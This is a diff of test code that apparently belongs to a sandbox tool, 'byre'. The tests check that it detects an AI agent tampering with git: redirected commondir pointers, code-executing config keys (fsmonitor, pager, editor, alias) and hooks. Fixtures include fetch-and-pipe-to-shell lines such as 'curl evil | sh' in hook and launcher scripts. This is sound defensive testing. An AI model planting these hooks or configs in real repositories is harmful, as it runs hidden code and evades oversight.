@@ -4,6 +4,7 @@ import path from 'node:path';
 
 import { describe, expect, it } from 'vitest';
 import { useTempDir, putFile } from '../../test/support/temp.js';
+import { gitOracle } from '../../test/support/tools.js';
 import { exitReport, exitReportLines } from './report.js';
 import {
   ENV_FILE_LIMIT,
@@ -24,6 +25,9 @@ const put = (rel: string, content: string): string => putFile(dir, rel, content)
 
 function repo(): SnapshotScope {
   const wt = path.join(dir, 'app');
+  put('app/.git/HEAD', 'ref: refs/heads/main\n');
+  mkdirSync(path.join(wt, '.git/objects'), { recursive: true });
+  mkdirSync(path.join(wt, '.git/refs'), { recursive: true });
   put('app/.git/config', '[core]\n\tbare = false\n');
   put('app/.git/hooks/pre-commit.sample', '#!/bin/sh\n');
   put('app/.env', 'A=1\n');
@@ -153,6 +157,7 @@ describe('takeSnapshot and the exit report, on a real tree', () => {
     // This session runs in the linked worktree feat/; the main checkout is app/.
     const feat = path.join(dir, 'feat');
     put('app/.git/worktrees/feat/HEAD', 'ref: refs/heads/feat\n');
+    put('app/.git/worktrees/feat/commondir', '../..\n');
     put('app/.git/worktrees/feat/gitdir', `${path.join(feat, '.git')}\n`);
     put('feat/.git', `gitdir: ${path.join(dir, 'app/.git/worktrees/feat')}\n`);
     const scope: SnapshotScope = {
@@ -189,7 +194,9 @@ describe('takeSnapshot and the exit report, on a real tree', () => {
     put('elsewhere/m/HEAD', 'ref: refs/heads/main\n');
     symlinkSync(path.join(dir, 'elsewhere'), path.join(dir, 'app/.git/modules'));
     const lines = diff(scope, () => put('elsewhere/m/hooks/pre-commit', '#!/bin/sh\n'));
-    expect(lines).toEqual([]);
+    expect(lines).toEqual([
+      'notice: could not check: what git reads through .git/modules (a symbolic link; byre does not follow it)',
+    ]);
   });
 
   it(`bounds submodule git dirs at ${SUBMODULE_LIMIT}, saying so, and reports none of the rest as deleted`, () => {
@@ -307,8 +314,179 @@ describe('takeSnapshot and the exit report, on a real tree', () => {
   });
 });
 
+/** What the host's git takes as `key` in `cwd`, asked of git itself (no system or global config). */
+const gitSays = (cwd: string, key: string): string =>
+  gitOracle(cwd, dir, ['config', '--get', key]) ?? '';
+
+describe('the exit report reads git as git does (issue 27)', () => {
+  it('a commondir redirect under .git/logs: the pointer, and the config and hook git reads through it', () => {
+    const scope = repo();
+    const app = path.join(dir, 'app');
+    const lines = diff(scope, () => {
+      put('app/.git/commondir', 'logs/c\n');
+      put('app/.git/logs/c/config', '[core]\n\tfsmonitor = ./evil\n');
+      put('app/.git/logs/c/hooks/pre-commit', '#!/bin/sh\nexit 0\n');
+      symlinkSync('../../objects', path.join(app, '.git/logs/c/objects'));
+      symlinkSync('../../refs', path.join(app, '.git/logs/c/refs'));
+    });
+    // git itself now takes the planted config.
+    expect(gitSays(app, 'core.fsmonitor')).toBe('./evil');
+    expect(lines).toContain(
+      '  git pointer added: .git/commondir = "logs/c" (git’s common dir: .git/logs/c)',
+    );
+    expect(lines).toContain('  git config .git/logs/c/config: core.fsmonitor = "./evil" (added)');
+    expect(lines).toContain('  hook added: .git/logs/c/hooks/pre-commit');
+  });
+
+  it('a .git swapped for a link to another repository is reported as the link; nothing is read through it', () => {
+    const scope = repo();
+    put('other/.git/HEAD', 'ref: refs/heads/main\n');
+    put('other/.git/config', '[core]\n\tfsmonitor = ./theirs\n');
+    put('other/.git/hooks/pre-commit', '#!/bin/sh\n');
+    put('other/.git/hooks/post-merge', '#!/bin/sh\n');
+    const lines = diff(scope, () => {
+      rmSync(path.join(dir, 'app/.git'), { recursive: true });
+      symlinkSync(path.join(dir, 'other/.git'), path.join(dir, 'app/.git'));
+    });
+    expect(lines).toContain(`  git pointer changed: .git (a symbolic link to ${dir}/other/.git)`);
+    expect(lines.join('\n')).not.toMatch(/hook (added|changed|deleted)|theirs/);
+  });
+});
+
+describe('the exit report follows every pointer git follows, inside the project', () => {
+  it('a project outside git that the box turned into a repository: the new .git, its config and hooks', () => {
+    put('plain/.env', 'A=1\n');
+    const wt = path.join(dir, 'plain');
+    const scope: SnapshotScope = { worktreeDir: wt, commonGitDir: null, roots: [wt] };
+    const lines = diff(scope, () => {
+      put('plain/.git/HEAD', 'ref: refs/heads/main\n');
+      mkdirSync(path.join(wt, '.git/objects'));
+      mkdirSync(path.join(wt, '.git/refs'));
+      put('plain/.git/config', '[core]\n\tpager = sh -c x\n');
+      put('plain/.git/hooks/post-checkout', '#!/bin/sh\n');
+    });
+    expect(gitSays(wt, 'core.pager')).toBe('sh -c x');
+    expect(lines.filter((l) => l.startsWith('  '))).toEqual([
+      '  git pointer added: .git (a directory)',
+      '  git config .git/config: core.pager = "sh -c x" (added)',
+      '  hook added: .git/hooks/post-checkout',
+    ]);
+  });
+
+  it('the checkout itself made a repository (git takes it when .git is gone): named, and read', () => {
+    const scope = repo();
+    const app = path.join(dir, 'app');
+    const lines = diff(scope, () => {
+      rmSync(path.join(app, '.git'), { recursive: true });
+      put('app/HEAD', 'ref: refs/heads/main\n');
+      mkdirSync(path.join(app, 'objects'));
+      mkdirSync(path.join(app, 'refs'));
+      put('app/config', '[alias]\n\tst = !sh -c x\n');
+      put('app/hooks/pre-push', '#!/bin/sh\n');
+    });
+    expect(gitSays(app, 'alias.st')).toBe('!sh -c x');
+    expect(lines).toContain(
+      '  git pointer added: HEAD (git takes the checkout itself for a repository)',
+    );
+    expect(lines).toContain('  git pointer deleted: .git');
+    expect(lines).toContain('  git config config: alias.st = "!sh -c x" (added)');
+    expect(lines).toContain('  hook added: hooks/pre-push');
+  });
+
+  it('from a linked worktree: the main checkout’s commondir and this worktree’s pointers', () => {
+    const feat = path.join(dir, 'feat');
+    const common = path.join(dir, 'app/.git');
+    repo();
+    put('app/.git/worktrees/feat/HEAD', 'ref: refs/heads/feat\n');
+    put('app/.git/worktrees/feat/commondir', '../..\n');
+    put('app/.git/worktrees/feat/gitdir', `${path.join(feat, '.git')}\n`);
+    put('feat/.git', `gitdir: ${common}/worktrees/feat\n`);
+    const scope: SnapshotScope = {
+      worktreeDir: feat,
+      commonGitDir: common,
+      roots: [feat, path.join(dir, 'app'), common],
+    };
+    expect(diff(scope, () => undefined)).toEqual([]);
+    const lines = diff(scope, () => {
+      // The main checkout's git now reads its config and hooks from logs/c.
+      put('app/.git/commondir', 'logs/c\n');
+      put('app/.git/logs/c/config', '[core]\n\tfsmonitor = ./m\n');
+      put('app/.git/logs/c/hooks/pre-commit', '#!/bin/sh\n');
+      // This worktree's git dir now names another common dir.
+      put('app/.git/worktrees/feat/commondir', '../../logs/c\n');
+    });
+    expect(lines.filter((l) => l.includes('pointer') || l.includes('logs/c/'))).toEqual([
+      // logs/c has no objects or refs: git in the main checkout no longer takes its .git.
+      `  git pointer changed: ${common} (a directory git does not take for a repository)`,
+      `  git pointer added: ${common}/commondir = "logs/c" (git’s common dir: ${common}/logs/c)`,
+      `  git pointer changed: ${common}/worktrees/feat/commondir = "../../logs/c" (git’s common dir: ${common}/logs/c)`,
+      `  git config ${common}/logs/c/config: core.fsmonitor = "./m" (added)`,
+      `  hook added: ${common}/logs/c/hooks/pre-commit`,
+    ]);
+  });
+
+  it('a worktree added or removed as git does it is not news; one whose commondir leads elsewhere is', () => {
+    const scope = repo();
+    const admin = (name: string, common: string): void => {
+      put(`app/.git/worktrees/${name}/HEAD`, 'ref: refs/heads/x\n');
+      put(`app/.git/worktrees/${name}/commondir`, common);
+      put(`app/.git/worktrees/${name}/gitdir`, `${dir}/${name}/.git\n`);
+    };
+    admin('old', '../..\n');
+    expect(
+      diff(scope, () => {
+        admin('new', '../..\n');
+        rmSync(path.join(dir, 'app/.git/worktrees/old'), { recursive: true });
+      }),
+    ).toEqual([]);
+    const lines = diff(scope, () => admin('forged', '../../logs\n'));
+    expect(lines.filter((l) => l.startsWith('  '))).toEqual([
+      '  git pointer added: .git/worktrees/forged/commondir = "../../logs" (git’s common dir: .git/logs)',
+    ]);
+  });
+
+  it('a hook or a config that is a link inside the project is read through, as git runs and reads it', () => {
+    const scope = repo();
+    const app = path.join(dir, 'app');
+    put('app/scripts/pre-commit', '#!/bin/sh\nexit 0\n');
+    symlinkSync('../../scripts/pre-commit', path.join(app, '.git/hooks/pre-commit'));
+    put('app/cfg/real', '[core]\n\tbare = false\n');
+    rmSync(path.join(app, '.git/config'));
+    symlinkSync('../cfg/real', path.join(app, '.git/config'));
+    const lines = diff(scope, () => {
+      put('app/scripts/pre-commit', '#!/bin/sh\ncurl x | sh\n');
+      put('app/cfg/real', '[core]\n\tbare = false\n\teditor = sh -c x\n');
+    });
+    expect(gitSays(app, 'core.editor')).toBe('sh -c x');
+    expect(lines).toContain(
+      '  hook changed: .git/hooks/pre-commit (a symbolic link to ../../scripts/pre-commit)',
+    );
+    expect(lines).toContain('  git config .git/config: core.editor = "sh -c x" (added)');
+  });
+
+  it('a hooks directory or config linked out of the project is named, not read', () => {
+    const scope = repo();
+    const app = path.join(dir, 'app');
+    put('outside/hooks/pre-commit', '#!/bin/sh\n');
+    put('outside/config', '[core]\n\tpager = theirs\n');
+    const lines = diff(scope, () => {
+      rmSync(path.join(app, '.git/hooks'), { recursive: true });
+      symlinkSync(path.join(dir, 'outside/hooks'), path.join(app, '.git/hooks'));
+      rmSync(path.join(app, '.git/config'));
+      symlinkSync(path.join(dir, 'outside/config'), path.join(app, '.git/config'));
+    });
+    expect(lines).toContain(
+      `  hook added: .git/hooks (it leads outside the project, to ${dir}/outside/hooks; byre does not follow it)`,
+    );
+    expect(lines.join('\n')).toContain(
+      `git config .git/config, changed into something byre cannot read (it leads outside the project, to ${dir}/outside/config)`,
+    );
+    expect(lines.join('\n')).not.toMatch(/theirs|pre-commit$/m);
+  });
+});
+
 describe('snapshotStore', () => {
-  it('reads the store without following links; byre’s working entries only by kind', () => {
+  it('reads the store without following links; launch records only by kind, the build context by content', () => {
     const store = path.join(dir, 'store');
     put('store/byre.config', 'agent = "claude"\n');
     put('store/path', '/src/app\n');
@@ -317,7 +495,7 @@ describe('snapshotStore', () => {
     const before = snapshotStore(store);
     expect(Object.keys(before.files).sort()).toEqual([
       'byre.config',
-      'context',
+      'context/Dockerfile.generated',
       'launches',
       'path',
     ]);
@@ -332,6 +510,22 @@ describe('snapshotStore', () => {
       '  +run_args = ["-e", "X=1"]',
       'self-edit: other files in the project’s store:',
       '  added: notes/new.txt',
+    ]);
+  });
+
+  it('reports an edit to the staged build context (issue 27): the launcher and the Dockerfile', () => {
+    const store = path.join(dir, 'store');
+    put('store/byre.config', 'agent = "claude"\n');
+    put('store/context/Dockerfile.generated', 'FROM x\n');
+    put('store/context/byre-launch', '#!/bin/sh\nexec "$@"\n');
+    const before = snapshotStore(store);
+    put('store/context/byre-launch', '#!/bin/sh\ncurl evil | sh\nexec "$@"\n');
+    put('store/context/Dockerfile.generated', 'FROM x\nRUN evil\n');
+    expect(selfEditReportLines(before, snapshotStore(store))).toEqual([
+      'self-edit: other files in the project’s store:',
+      '  changed: context/Dockerfile.generated',
+      '  changed: context/byre-launch',
+      'self-edit: context/ is the build context byre staged; byre stages a fresh one before every build and never builds from this copy. To build by hand, write a fresh one: byre dockerfile --context <new directory>',
     ]);
   });
 });
